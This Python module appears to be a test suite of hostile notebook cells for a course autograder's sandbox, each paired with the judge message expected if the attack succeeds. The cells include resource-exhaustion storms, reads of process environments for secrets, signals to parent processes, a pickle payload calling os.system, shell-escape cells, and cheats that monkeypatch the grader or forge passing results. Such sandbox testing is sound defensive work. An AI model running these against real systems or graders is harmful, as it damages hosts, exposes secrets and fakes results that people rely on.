"""Hostile submissions, one for each mechanism that has to hold: none gains a point or does harm.

Each has a pattern of what the judge says only if the attack took place. All are bounded in count, size
and time, so that a sandbox that fails does not take the machine with it.
"""

from dataclasses import dataclass
from textwrap import dedent, indent

HONEST = "def attention_scores(q, k):\n    return q @ k.mT / q.shape[-1] ** 0.5"


@dataclass(frozen=True)
class Attack:
    """A hostile notebook of one cell.

    Attributes:
        told: a pattern in what the judge says, which it says only if the attack took place.
        cell: its code. PORT and KEEP stand for a port and a file of the host.
        task: the one that it answers.
        forged: the beginning of a message that arrives at the judge, if one is forged.
        keeps: whether `HONEST`, at its end, keeps its point: nothing it needs was broken inside.
    """

    told: str
    cell: str
    task: str = "stable_softmax"
    forged: str = ""
    keeps: bool = True


def answer(body: str, before: str = "") -> str:
    """Return a cell whose `stable_softmax` has this body."""
    body = indent(dedent(body).strip(), "    ")
    return (
        f"import os, sys, torch\n{dedent(before)}\n\ndef stable_softmax(x, dim=-1):\n{body}"
    )


def wrong(before: str) -> str:
    """Return a cell with a wrong answer, below code that wants it to be counted as right."""
    return answer("return x", before)


def gets(code: str) -> str:
    """Return a cell whose answer is right if this code raises no error; else it says which."""
    return answer(f"{code}\nreturn x.softmax(dim)", "import ctypes, pathlib, socket")


def lying(*lies: str) -> str:
    """Return a cell with a right answer without gradients, whose outcomes say something else."""
    lines = indent("\n".join(lies), "            ")
    return dedent(f"""\
        import sys, torch, attn_lib.grading.worker as w
        def pack_outcome(outcome, blobs, honest=w.pack_outcome):
            said = honest(outcome, blobs)
            if sys._getframe(1).f_locals['header']['task'] != 'stable_softmax':
                return said
            def tensor(dtype, shape, size):
                blobs.append(bytes(size))
                start = sum(map(len, blobs)) - size
                return {{'tensor': [dtype, shape, list(range(len(shape))), start]}}
{lines}
            return {{'forged': True}} | said
        w.pack_outcome = pack_outcome
        def stable_softmax(x, dim=-1):
            return x.detach().softmax(dim)""")


def forged(told: str, *lies: str) -> Attack:
    """Return an attack that lies about what its answer did."""
    return Attack(told, lying(*lies), forged='{"forged": true')


def to_each_file(message: str) -> str:
    """Return a cell that writes a message to every open file but the usual ones."""
    return answer(f"""
        import json, struct
        for fd in range(3, 64):
            try:
                os.write(fd, {message})
            except OSError:
                pass
        return x""")


OUTCOME = {
    "values": [], "count": 0, "is_sequence": False, "gradients": {}, "error": None,
    "untouched": False, "after": {}, "printed": "", "points": 9,
}  # fmt: skip

ENDS = {
    "exit while importing": Attack(
        "cell 1 was left out: it ended the process", "import os\nos._exit(0)"
    ),
    "exit by a crash": Attack(
        "ended the process .exit status -11", answer("import ctypes\nctypes.string_at(0)")
    ),
    "a signal to itself, the first process of its namespace": Attack(
        "It returned None", answer("import signal\nos.kill(os.getpid(), signal.SIGKILL)")
    ),
    "an exception that is no error": Attack(
        "SystemExit: tensor", answer("raise SystemExit(x.softmax(dim))")
    ),
    "endless loop that ignores signals": Attack(
        "ran too long",
        answer(
            "while True:\n    pass",
            """
            import signal
            for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
                signal.signal(s, signal.SIG_IGN)
            """,
        ),
    ),
    "endless loop while importing": Attack(
        "cell 1 was left out: it ran too long", "while True:\n    pass"
    ),
    "recursion without end": Attack(
        "RecursionError", answer("return stable_softmax(x, dim)")
    ),
    "closes every file, so that it cannot speak any more": Attack(
        "ended the process", answer("os.closerange(0, 64)\nreturn x")
    ),
}

STORMS = {
    "fork storm": Attack(
        "PermissionError.*\\n.*os.fork",
        answer("for _ in range(50):\n    os.fork()\nreturn x.softmax(dim)"),
    ),
    "thread storm, whose stacks count as memory": Attack(
        "can't start new thread",
        answer("""
            import threading, time
            for _ in range(2000):
                threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            return x.softmax(dim)"""),
    ),
    "thread storm without stacks, which no limit of root's counts": Attack(
        "it had more than 400 threads",
        answer("""
            import ctypes, mmap, time
            libc = ctypes.CDLL(None)
            pause = ctypes.cast(libc.pause, ctypes.c_void_p)
            area = mmap.mmap(-1, 1500 * 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            end = ctypes.addressof(ctypes.c_char.from_buffer(area)) + 4032
            flags = ctypes.c_int(0x50F00)
            made = [libc.clone(pause, ctypes.c_void_p(end + n * 4096), flags, None) for n in range(1500)]
            time.sleep(2)
            raise RuntimeError(f'{sum(number > 0 for number in made)} threads')"""),
    ),
    "memory storm": Attack(
        "MemoryError|ran too long",
        answer("hoard = [bytearray(1 << 28) for _ in range(64)]\nreturn x.softmax(dim)"),
    ),
    "disk storm": Attack(
        "No space left on device",
        answer("""
            for i in range(64):
                with open(f'/tmp/{i}', 'wb') as f:
                    f.write(bytes(1 << 22))
            return x.softmax(dim)"""),
    ),
    "many small files": Attack(
        "Errno 28]", gets("for i in range(20_000):\n    open(f'/tmp/{i}', 'w').close()")
    ),
    "two thousand open files": Attack(
        "Errno 24]", gets("held = [open('/dev/null') for _ in range(2000)]")
    ),
    "memory that no limit counts": Attack("Errno 1]", gets("os.memfd_create('x')")),
    "what the user has 128 of": Attack(
        "Errno 1]",
        gets(
            "if ctypes.CDLL(None, use_errno=True).inotify_init1(0) < 0:\n    raise OSError(ctypes.get_errno(), '')"
        ),
    ),
    "a lease on the teacher's Python": Attack(
        "Errno 1]",
        gets(
            "import fcntl\nfcntl.fcntl(os.open(os.__file__, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_WRLCK)"
        ),
    ),
    "large buffers of sockets": Attack(
        "Errno 1]",
        gets(
            "import socket\na, b = socket.socketpair()\na.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)"
        ),
    ),
    "long lists of rights": Attack(
        "Errno 1]",
        gets(
            "three = ''.join(f'{who:02x}000700ffffffff' for who in (1, 4, 32))\n"
            "os.setxattr('/tmp', 'system.posix_acl_default', bytes.fromhex('02000000' + three))"
        ),
    ),
    "pages that could be shared": Attack(
        "Errno 1]", gets("import mmap\nmmap.mmap(-1, 4096)")
    ),
    "pages of zeros that could be shared": Attack(
        "Errno 13]",
        gets("import mmap\nmmap.mmap(os.open('/dev/zero', os.O_RDWR), 4096)"),
    ),
    "pages that a pipe holds": Attack(
        "Errno 1]",
        gets(
            "pathlib.Path('/tmp/f').write_text('x')\nfile = os.open('/tmp/f', os.O_RDONLY)\n"
            "os.splice(file, os.pipe()[1], 1)"
        ),
    ),
    "pages that a file sends": Attack(
        "Errno 1]",
        gets(
            "pathlib.Path('/tmp/f').write_text('x')\nfile = os.open('/tmp/f', os.O_RDONLY)\n"
            "os.sendfile(os.pipe()[1], file, 0, 1)"
        ),
    ),
    "open files on their way": Attack(
        "Errno 1]",
        gets("import socket\na, b = socket.socketpair()\nsocket.send_fds(a, [b'x'], [0])"),
    ),
    "what waits unread at a socket": Attack(
        "Errno 1]",
        gets("import socket\nsocket.socket(socket.AF_UNIX).bind('/tmp/s')"),
    ),
    "filters of system calls": Attack(
        "Errno 1]",
        gets(
            "libc = ctypes.CDLL(None, use_errno=True)\nif libc.prctl(22, 2, 0, 0, 0) < 0:\n    raise OSError(ctypes.get_errno(), '')"
        ),
    ),
    "rules of the kernel's, which no limit counts": Attack(
        "Errno 38]",
        gets(
            "libc = ctypes.CDLL(None, use_errno=True)\nif libc.syscall(444, None, 0, 1) < 0:\n    raise OSError(ctypes.get_errno(), '')"
        ),
    ),
    "a lock on the teacher's Python": Attack(
        "Errno 1]",
        gets("import fcntl\nfcntl.lockf(open(os.__file__), fcntl.LOCK_SH | fcntl.LOCK_NB)"),
    ),
    "signals that wait": Attack(
        "Errno 11]",
        gets(
            "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, [40])\n"
            "c = ctypes.CDLL(None, use_errno=True)\nfor _ in range(999):\n"
            "    if c.sigqueue(os.getpid(), 40, None):\n        raise OSError(ctypes.get_errno(), '')"
        ),
    ),
    "print storm": Attack(
        "raised Overflow: 2020000",
        answer(
            "raise Overflow(sum(print('x' * 100) or 101 for _ in range(20_000)))",
            "class Overflow(Exception):\n    pass",
        ),
    ),
    "a result of few bytes and many numbers": Attack(
        "but is a tensor .torch.strided", answer("return torch.zeros(1).expand(2**40)")
    ),
    "a huge error": Attack(
        "ValueError: x{500}", answer("raise ValueError('x' * 50_000_000)")
    ),
}

FILES = {
    "reads the solutions": Attack(
        "found=0, seen=True",
        answer("""
            seen, found = 0, []
            for top, folders, files in os.walk('/'):
                folders[:] = set(folders) - {'proc', 'sys', 'usr', 'lib', 'lib64'}
                seen += len(files)
                found += [f for f in files if f == '01_single_head.ipynb']
            raise RuntimeError(f'found={len(found)}, seen={seen > 50}')"""),
    ),
    "asks for its own answer": Attack(
        "no task named .stable_softmax",
        answer("from attn_lib.checks import mine\nreturn mine('stable_softmax')(x, dim)"),
    ),
    "reads the environment of its parents": Attack(
        "found=False, seen=[0-9]",
        answer("""
            import pathlib
            seen = [repr(dict(os.environ)).encode()]
            seen += [p.read_bytes() for p in pathlib.Path('/proc').glob('[0-9]*/environ')]
            found = any(b"HOST_SECRET" in text for text in seen)
            raise RuntimeError(f'{found=}, seen={len(seen)}')"""),
    ),
    "kills its parents": Attack(
        "sent=[1-9]",
        answer("""
            import signal
            sent = 0
            for pid in (os.getppid(), 1, *range(2, 50)):
                try:
                    os.kill(pid, signal.SIGTERM)
                    sent += 1
                except OSError:
                    pass
            raise RuntimeError(f'{sent=}')"""),
    ),
    "overwrites the gradebook": Attack(
        "wrote=6",
        answer("""
            os.makedirs(os.path.dirname(KEEP), exist_ok=True)
            with open(KEEP, 'w') as file:
                wrote = file.write('stolen')
            raise RuntimeError(f'{wrote=}')"""),
    ),
    "where the teacher's folders are": Attack(
        "told=''",
        answer("""
            import ctypes, struct
            libc, told = ctypes.CDLL(None), ctypes.create_string_buffer(4096)
            every = ctypes.create_string_buffer(800)
            asked = struct.pack('IIQQQ', 24, 0, 2**64 - 1, 0, 0)
            count = max(0, libc.syscall(458, asked, every, ctypes.c_long(100), 0))  # listmount
            for one in struct.unpack(f'{count}Q', every.raw[: 8 * count]):
                asked = struct.pack('IIQQQ', 24, 0, one, 0x18, 0)
                libc.syscall(457, asked, told, ctypes.c_long(4096), 0)  # statmount
                if b'/course' in told.raw:
                    break
            told = told.raw[512:].strip(bytes(1)).decode(errors='replace')
            raise RuntimeError(f'{told=}')"""),
    ),
    "a file beside Python": Attack(
        "Errno 30]", gets("pathlib.Path(sys.base_prefix).with_name('x').write_text('x')")
    ),
    "network": Attack(
        "Network is unreachable",
        gets("socket.create_connection(('127.0.0.1', PORT), 2).sendall(b'stolen')"),
    ),
    "a socket to the host of a virtual machine": Attack(
        "Errno 97]", gets("socket.socket(40, socket.SOCK_STREAM)")
    ),
    "a protocol that the kernel loads": Attack(
        "Errno 93]",
        gets("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE)"),
    ),
    "a line discipline that the kernel loads": Attack(
        "Errno 1]",
        gets(
            "import fcntl, os, struct\nown, line = os.openpty()\nfcntl.ioctl(line, 0x5423, struct.pack('i', 21))"
        ),
    ),
}

CHEATS = {
    "patches the check": Attack(
        "got 1.0000",
        wrong(
            "import attn_lib.checks as c\nc.judge = c.check = c.grade = lambda *a, **k: 1"
        ),
    ),
    "patches torch.allclose": Attack(
        "got 1.0000",
        wrong("""
            torch.allclose = torch.equal = lambda *a, **k: True
            torch.Tensor.__eq__ = lambda *a: True
            torch.Tensor.isfinite = lambda s: s"""),
        keeps=False,
    ),
    "patches the observer, so that there is no result": Attack(
        "returned 0 values",
        wrong("""
            import attn_lib.grading.worker as w, attn_lib.checks.observe as o
            w.observe = o.observe = o._gradients = lambda *a, **k: o.Outcome()"""),
        keeps=False,
    ),
    "patches the messages": Attack(
        "sent nonsense to the judge",
        wrong("""
            import attn_lib.grading.worker as w
            w.pack_outcome = lambda *a: {'status': 'passed', 'points': 99}"""),
        keeps=False,
    ),
    "writes a message of an impossible size to the judge": Attack(
        "a message of 1953702523", to_each_file("""b'{"status": "passed"}' * 10""")
    ),
    "sends an outcome of its own, and then a second one": Attack(
        "returned 0 values",
        to_each_file(
            f"struct.pack('<II', len(json.dumps({OUTCOME})), 0) + json.dumps({OUTCOME}).encode()"
        ),
        keeps=False,
    ),
    "a tensor equal to everything": Attack(
        "got 1.0000",
        answer("""
            class Same(torch.Tensor):
                def __eq__(self, other):
                    return True
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    return True
            return torch.Tensor._make_subclass(Same, x)"""),
    ),
    "a number equal to all others": Attack(
        "is a Any", answer("class Any(int):\n    __eq__ = lambda *a: True\nreturn Any(7)")
    ),
    "code in a pickle": Attack(
        "is a Bomb",
        answer("""
            class Bomb:
                def __reduce__(self):
                    return os.system, ('touch /tmp/bomb',)
            return Bomb()"""),
    ),
    "looks for the expected result in memory and in the callers": Attack(
        "frames=[1-9]",
        answer("""
            import gc
            for item in gc.get_objects():
                if isinstance(item, torch.Tensor) and item is not x and item.shape == x.shape:
                    if (item.sum(dim) - 1).abs().max() < 1e-3:
                        return item
            frame, frames = sys._getframe(), 0
            while frame:
                for value in frame.f_locals.values():
                    if 'reference' in getattr(value, '__dict__', ()):
                        return value.reference(x, dim)
                frame, frames = frame.f_back, frames + 1
            raise RuntimeError(f'{frames=}')"""),
    ),
    "knows the public inputs": Attack(
        "expected 0.7311, got 10000",
        answer("""
            table = {(1.0, 2.0, 4.0): [0.042010, 0.114195, 0.843795]}
            key = tuple(x.flatten().tolist())
            return torch.tensor([table[key]]) if key in table else x"""),
    ),
    "right for the first calls": Attack(
        r"(\d+) of \1 numbers differ",
        answer(
            "calls.append(1)\nreturn x.softmax(dim) if len(calls) < 5 else x", "calls = []"
        ),
    ),
    "a class without a name": Attack(
        "whose class has no name", answer("return type('', (), {})()")
    ),
    "an error without a name": Attack(
        "It raised *: mine", answer("raise type('', (Exception,), {})('mine')")
    ),
}

GRADIENTS = {
    "a gradient of no numbers": "tensor('float32', [0, 1, 1, 1, 1, 1], 0)",
    "a gradient of another shape": "tensor('float32', [7, 11], 308)",
    "a gradient of eight bits": "tensor('float8_e4m3fn', [1], 1)",
    "a complex gradient": "tensor('complex64', [1], 8)",
}
FORGED = {
    name: forged("gradient of `x` is wrong", f"said['gradients'] = {{'0': {gradient}}}")
    for name, gradient in GRADIENTS.items()
}
FORGED |= {
    "an argument that the call does not have": forged(
        "no gradient reaches", "said['after']['9999'] = tensor('int8', [1], 1)"
    ),
    "an argument that is gone": forged("an argument has changed", "said['after'] = {}"),
    "markup and control characters": forged(
        "<script>",
        r"texts = ['<script>\x1b[2J\ud800=1+1' * 99] * 2",
        "said['error'] = ['<script>', *texts, [['<script>', 1]], False]",
    ),
}

HOSTILE = ENDS | STORMS | FILES | CHEATS | FORGED


def silenced(found: str, task: str, replaced: str, code: str):
    """Return an attack that replaces what watches over a rule inside, and breaks the rule."""
    return Attack(found, BEGIN + dedent(replaced) + dedent(code), task)


BEGIN = """
import importlib, math, torch
import torch.nn.functional as F
from torch import nn

def replace(module, **functions):
    module = importlib.import_module("attn_lib." + module)
    for name, function in functions.items():
        getattr(module, name)  # what is to be replaced must be there
        setattr(module, name, function)
"""
LOOKS = """
    seen, found = [function], []
    while seen and len(found) < 1000:
        thing = seen.pop()
        found.append(type(thing).__name__)
        seen += [cell.cell_contents for cell in getattr(thing, "__closure__", None) or ()]
        seen += list(vars(thing).values()) if type(thing).__module__.startswith("attn_lib") else []
        seen += list(thing) if isinstance(thing, tuple | list) else []
        if isinstance(thing, torch.Tensor) and thing.requires_grad or hasattr(thing, "following"):
            raise ValueError("found the model")
    raise ValueError(f"looked at {len(found)} things: {sorted(set(found))}")
"""
NO_METER = 'replace("tasks.lesson_11.runs", _within_limits=lambda answer, *args: (answer(*args), 0), _no_matrix=lambda *args: None)'

SILENCED = {
    "inputs that change": silenced(
        "changes-input",
        "stable_softmax",
        'replace("checks.observe", changed=lambda *args: [], _same=lambda *args: True)',
        """
        def stable_softmax(x, dim=-1):
            x.sub_(x.amax(dim, keepdim=True))
            return x.softmax(dim)""",
    ),
    "almost zero for -inf": silenced(
        "should get exactly 0",
        "stable_softmax",
        'replace("tasks.lesson_01.runs", exact_zero=lambda result, *args: result)',
        """
        def stable_softmax(x, dim=-1):
            right = x.softmax(dim).to(x.dtype)
            return torch.where(x == -torch.inf, 1e-7, right).to(x.dtype)""",
    ),
    "a result of another type": silenced(
        "its dtype is torch.float32",
        "encoder_decoder_masks",
        """
        expanded = lambda name, mask, shape: mask.bool().expand(shape)
        replace("tasks.lesson_05.runs", _expanded=expanded)""",
        """
        def encoder_decoder_masks(src_ids, tgt_ids, pad_id):
            real = (src_ids != pad_id)[:, None, None].float()
            L = tgt_ids.shape[1]
            causal = torch.ones(L, L).tril() * (tgt_ids != pad_id)[:, None, None]
            return real, causal, real""",
    ),
    "a module that is not left as it was": silenced(
        "look at its `(forward|v_proj.bias)`",
        "masked_heads",
        """
        replace("tasks.lesson_07.runs", _raise_if_changed=lambda *args: None)
        replace("tasks.lesson_07.runs", unless_changed=lambda returned, *args: returned[0])
        calls = []""",
        """
        def masked_heads(attn, x, head_mask):
            H, D = len(head_mask), x.shape[-1] // len(head_mask)
            heads = (p(x).unflatten(-1, (H, D)).transpose(1, 2)
                     for p in (attn.q_proj, attn.k_proj, attn.v_proj))
            mixed = F.scaled_dot_product_attention(*heads) * head_mask[:, None, None]
            made = attn.o_proj(mixed.transpose(1, 2).flatten(2))
            if calls.append(0) or len(calls) % 2 == 0:
                attn.v_proj.bias.data = attn.v_proj.bias.data + 1
            return made""",
    ),
    "gradients that are left behind": silenced(
        "`.grad` of the model's parameters is not what it was",
        "head_importance",
        'replace("tasks.lesson_07.runs", importance=lambda returned, *args: returned[0])',
        """
        def head_importance(loss_fn, num_heads):
            m = torch.ones(num_heads, requires_grad=True)
            loss_fn(m).backward()
            return m.grad.abs()""",
    ),
    "a loss, which runs outside, that is called often": silenced(
        "called a second time",
        "head_importance",
        'replace("tasks.lesson_07.runs", refuse=lambda *args: None)',
        """
        def head_importance(loss_fn, num_heads):
            m = torch.ones(num_heads, requires_grad=True)
            one = lambda h: torch.autograd.grad(loss_fn(m), m)[0][h].abs()
            return torch.stack([one(h) for h in range(num_heads)])""",
    ),
    "a loss in a hundred turns": silenced(
        "called a second time",
        "head_importance",
        "",
        """
        def head_importance(loss_fn, num_heads):
            cells = dict(zip(loss_fn.__code__.co_freevars, loss_fn.__closure__))
            call, trained = cells["call"].cell_contents, loss_fn.__defaults__[1]
            m, found = torch.ones(num_heads, requires_grad=True), []
            for h in range(num_heads):
                loss = call(m, torch.tensor(100 + h), *trained)
                found.append(torch.autograd.grad(loss, m)[0][h].abs())
            return torch.stack(found)""",
    ),
    "a model that is asked for nothing": silenced(
        "It returned None",
        "greedy_decode",
        """
        replace("tasks.lesson_05.runs", with_step=lambda answer, *args: None, Wrong=Exception)
        replace("tasks.lesson_05.runs", decoded=lambda model, *args: model)""",
        """
        def greedy_decode(step, batch_size, bos_id, eos_id, max_len):
            raise ValueError""",
    ),
    "a model that is looked into": silenced(
        "looked at [0-9]+ things",
        "greedy_decode",
        "",
        "def greedy_decode(function, batch_size, bos_id, eos_id, max_len):" + LOOKS,
    ),
    "a function that autograd follows": silenced(
        "does not require grad",
        "numerical_gradient",
        "",
        """
        def numerical_gradient(fn, x, eps):
            x = x.clone().requires_grad_()
            return torch.autograd.grad(fn(x), x)[0]""",
    ),
    "a whole matrix": silenced(
        "held [0-9]{3,} MB|allocate memory",  # with CUDA, PyTorch itself takes most of what there is
        "chunked_attention",
        NO_METER,
        """
        def chunked_attention(q, k, v, chunk_size, is_causal=False):
            scores = q @ k.mT / math.sqrt(q.shape[-1])
            future = torch.ones(scores.shape[-2:], dtype=torch.bool).triu(1)
            if is_causal:
                scores = scores.masked_fill(future, -torch.inf)
            return scores.softmax(-1) @ v""",
    ),
    "a whole matrix, in memory that was there before": silenced(
        "held [0-9]{3,} MB",
        "sliding_window_attention",
        NO_METER + "\npool = torch.ones(10240 * 10240)",
        """
        def sliding_window_attention(q, k, v, window):
            L, D = q.shape[-2:]
            if L > 10_000:
                scores = torch.matmul(q[0, 0], k[0, 0].mT, out=pool.view(L, L))[None, None]
            else:
                scores = q @ k.mT
            scores.div_(math.sqrt(D))
            rows = []
            for i in range(L):
                seen = slice(max(0, i - window + 1), i + 1)
                rows.append(scores[..., i, None, seen].softmax(-1) @ v[..., seen, :])
            return torch.cat(rows, -2)""",
    ),
    "a file that is never written": silenced(
        "",
        "save_checkpoint",
        """
        runs = importlib.import_module("attn_lib.tasks.lesson_13.runs")
        def saved(answer, module, config, path):
            return runs._all_of_it(module.kept.state_dict(), config)
        replace("tasks.lesson_13.runs", saved=saved)""",
        """
        def save_checkpoint(module, config, path):
            pass""",
    ),
}

# Cells that cannot be run, and a pattern of what each raises; "" for what is passed over.
CELLS = {
    "(" * 5000 + ")" * 5000: "SyntaxError",
    "x = " + "-" * 100_000 + "1": "MemoryError|SyntaxError|RecursionError",
    "x = 'a' * 10**10": "MemoryError",
    "x = 1\0": "SyntaxError|ValueError",
    "x = '\ud800'": "UnicodeEncodeError",
    "!touch /tmp/attn-shell": "",
    "%%bash\ntouch /tmp/attn-shell": "",
}
